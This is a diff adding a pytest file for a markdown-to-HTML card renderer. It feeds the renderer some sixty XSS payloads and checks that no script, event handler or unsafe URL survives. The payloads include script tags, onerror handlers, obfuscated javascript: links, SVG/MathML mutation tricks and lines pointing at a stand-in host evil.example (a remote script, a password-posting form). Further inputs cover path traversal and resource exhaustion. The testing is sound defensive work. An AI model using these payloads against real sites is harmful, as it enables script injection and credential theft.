@@ -1,0 +1,179 @@
+"""Cards become HTML that says what the author wrote and does nothing else."""
+
+from __future__ import annotations
+
+import time
+from html.parser import HTMLParser
+from urllib.parse import urlsplit
+
+import pytest
+
+from hub.rendering import SanitisedHtml, render_markdown
+from hub.rendering.markdown import ATTRIBUTES, SCHEMES, TAG_NAMES
+
+FORBIDDEN = {"script", "style", "iframe", "object", "embed", "form", "svg", "math", "link", "meta"}
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="x" ONERROR=alert(1) //',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=data:text/html,<script>alert(1)</script>></object>",
+    "<embed src=javascript:alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='jav\tascript:alert(1)'>x</a>",
+    "<a href='java&#10;script:alert(1)'>x</a>",
+    "<a href='&#x6A;avascript:alert(1)'>x</a>",
+    "<a href=' javascript:alert(1)'>x</a>",
+    "<a href='\x01javascript:alert(1)'>x</a>",
+    "<a href='vbscript:msgbox(1)'>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](<java\nscript:alert(1)>)",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
+    '![x"onerror="alert(1)](y)',
+    '[x](http://a.example/"onmouseover="alert(1))',
+    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
+    "<button onclick=alert(1)>x</button>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css'</style>",
+    "<div style='position:fixed;inset:0;background:url(javascript:alert(1))'>x</div>",
+    "<div id=main class=top data-copy=x hx-get=/-/settings hx-trigger=load>x</div>",
+    "<a id=search name=csrf-token href=#>x</a>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "```html\n<script>alert(1)</script>\n```",
+    '```"><script>alert(1)</script>\nx\n```',
+    "`<script>alert(1)</script>`",
+    "| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |",
+    "x[^1]\n\n[^1]: <script>alert(1)</script>",
+    "# <img src=x onerror=alert(1)>",
+    "---\ntitle: <script>alert(1)</script>\n---\n",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<video><source onerror=alert(1)></video>",
+    "<p title='\"><script>alert(1)</script>'>x</p>",
+]
+
+
+class Reader(HTMLParser):
+    """The tags of a piece of HTML with their attributes, as a parser sees them."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.words = ""
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.words += data
+
+
+def link(path: str, is_image: bool) -> str:
+    return f"/demo/{'raw' if is_image else 'view'}/{path}"
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_no_payload_leaves_anything_that_acts(payload):
+    page = Reader(render_markdown(f"before\n\n{payload}\n\nafter", link=link))
+    written = {"rel", "loading", "type", "disabled", "class"}
+    for tag, attributes in page.tags:
+        assert tag in TAG_NAMES.split() and tag not in FORBIDDEN
+        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | written
+        assert set(attributes) <= allowed
+        assert attributes.get("id", "user-content-").startswith("user-content-")
+        for address in (attributes.get("href"), attributes.get("src")):
+            assert urlsplit(address or "").scheme in {"", *SCHEMES}
+        if tag == "input":
+            assert attributes["type"] == "checkbox" and "disabled" in attributes
+    assert "before" in page.words
+
+
+def test_a_card_keeps_what_github_would_show():
+    text = (
+        "# Title\n\n**bold** ~~gone~~\n\n- [x] done\n\n|a|b|\n|:-|-:|\n|1|2|\n\n"
+        "```python\nx = 1\n```\n\nnote[^1]\n\n[^1]: foot\n\n<div align='center'><b>mid</b></div>"
+    )
+    tags = Reader(render_markdown(text)).tags
+    names = [tag for tag, _ in tags]
+    assert {"h1", "strong", "s", "input", "table", "pre", "sup", "section", "div"} <= set(names)
+    assert ("td", {"align": "right"}) in tags
+    assert ("span", {"class": "m"}) in tags
+
+
+@pytest.mark.parametrize(
+    ("written", "leads"),
+    [
+        ("[x](a.md)", "/demo/view/docs/a.md"),
+        ("[x](../a%20b.md#part)", "/demo/view/a b.md#part"),
+        ("![x](pic.png)", "/demo/raw/docs/pic.png"),
+        ("<img src='pic.png'>", "/demo/raw/docs/pic.png"),
+        ("[x](../../etc/passwd)", None),
+        ("[x](https://example.org/a)", "https://example.org/a"),
+        ("![x](https://example.org/track.png)", None),
+        ("![x](//example.org/track.png)", None),
+        ("<img src='/\\example.org/track.png'>", None),
+        ("[x](#part)", "#user-content-part"),
+        ("[x](mailto:a@example.org)", "mailto:a@example.org"),
+    ],
+)
+def test_links_lead_into_the_repository_or_out_of_the_hub(written, leads):
+    tags = Reader(render_markdown(written, link=link, folder="docs")).tags
+    found = [a.get("href") or a.get("src") for tag, a in tags if tag in {"a", "img"}]
+    assert found == [leads]
+
+
+def test_an_anchor_finds_its_heading():
+    tags = Reader(render_markdown("# Use it now\n\n# Use it now\n\n[x](#use-it-now-1)")).tags
+    ids = [attributes["id"] for tag, attributes in tags if tag == "h1"]
+    target = next(attributes["href"] for tag, attributes in tags if tag == "a")
+    assert ids == ["user-content-use-it-now", "user-content-use-it-now-1"]
+    assert target == f"#{ids[1]}"
+
+
+def test_front_matter_is_left_out_however_long():
+    text = "---\n" + "tag: x\n" * 100_000 + "---\nHello"
+    assert Reader(render_markdown(text)).words.strip() == "Hello"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<div>" * 50_000,
+        "# a\n" * 60_000,
+        "[" * 200_000,
+        ">" * 200_000,
+        "![" * 60_000,
+        "`" * 200_000,
+    ],
+    ids=["divs", "headings", "brackets", "quotes", "images", "ticks"],
+)
+def test_hostile_texts_cost_seconds_at_most(text):
+    begun = time.perf_counter()
+    render_markdown(text)
+    assert time.perf_counter() - begun < 10
+
+
+def test_the_result_has_its_own_type():
+    assert isinstance(render_markdown("x"), SanitisedHtml)
